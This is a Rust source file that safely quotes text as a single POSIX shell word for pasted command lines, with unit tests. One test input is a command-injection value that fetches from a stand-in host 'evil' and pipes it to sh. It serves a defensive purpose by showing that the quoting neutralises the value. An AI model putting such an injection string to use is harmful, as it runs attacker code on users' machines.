//! Words of the command lines that are shown to be pasted: ids are chosen by whoever made the
//! thing, and who pastes the line is often root.

use std::borrow::Cow;

/// One word for a POSIX shell, which gives the text back as it is; quoted where that needs it.
pub fn word(text: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-+=:,./@%".contains(c);
    if !text.is_empty() && text.chars().all(is_plain) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_is_quoted_where_the_shell_would_make_something_of_it() {
        for plain in [
            "vm1",
            "10.0.0.1/32",
            "fd00::1",
            "id=mem,size=2G",
            "a_b-c+d@e%f",
        ] {
            assert_eq!(word(plain), plain);
        }
        for (text, quoted) in [
            ("", "''"),
            ("vm1;curl${IFS}evil|sh;#", "'vm1;curl${IFS}evil|sh;#'"),
            ("a'b", r"'a'\''b'"),
            ("~", "'~'"),
            ("a b", "'a b'"),
            ("ä", "'ä'"),
        ] {
            assert_eq!(word(text), quoted);
        }
    }
}
